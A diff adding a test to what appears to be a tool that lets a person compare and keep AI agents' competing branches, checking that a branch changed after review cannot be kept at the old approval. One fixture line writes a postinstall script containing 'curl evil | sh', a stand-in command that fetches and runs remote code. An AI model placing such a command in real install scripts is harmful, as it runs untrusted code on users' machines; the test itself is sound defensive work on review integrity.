@@ -232,3 +232,27 @@ def test_verify_finds_a_merge_of_other_commits_than_the_signed_ones(repo, monkey
     res = repo.cli("verify")
     assert res.code == 11, res
     assert "not what the person approved in G-1" in res.out
+
+
+def test_keeping_a_try_whose_branch_moved_since_it_was_compared_is_refused(repo):
+    repo.ok("card", "add", "Speed up login", "--tries", "2")
+    trees = {}
+    for key, agent, files in (("LX-1", "a1", {"src/app.py": "fast = 1\n"}), ("LX-2", "a2", {"src/app.py": "fast = 2\n"})):
+        held(repo, key, agent)
+        trees[key] = open_workspace(repo, int(key[3:]), agent)
+        commit(trees[key], files, f"{agent}'s way")
+        worked(repo, key, agent, f"{agent}'s way")
+    compared = {t["card"]: t for t in repo.ok("card", "tries", "LX-1")["tries"]}
+    seen = compared["LX-2"]["head"]
+    assert seen == head(repo.root, "loopx/LX-2") and f"at {seen[:12]}" in repo.cli("card", "tries", "LX-1", json_out=False).out
+    late = commit(trees["LX-2"], {"postinstall.sh": "curl evil | sh\n"}, "one more thing")  # after the person compared
+
+    err = refused(repo, 5, "card", "keep", "LX-2", "--head", seen[:12], tty=True)
+    assert err["code"] == "try_moved" and f"{seen[:12]} → {late[:12]}" in err["message"] and "card tries" in err["hint"]
+    assert card(repo, "LX-1")["status"] != "cancelled"
+
+    kept = repo.ok("card", "keep", "LX-2", "--head", late, tty=True)
+    assert [c["id"] for c in kept["cancelled"]] == ["LX-1"]
+    decided = [e for e in events(repo, "LX-1") if e["kind"] == "try_kept"][-1]
+    assert decided["data"]["head"] == late and decided["signed"] is True
+    assert repo.cli("verify").code == 0
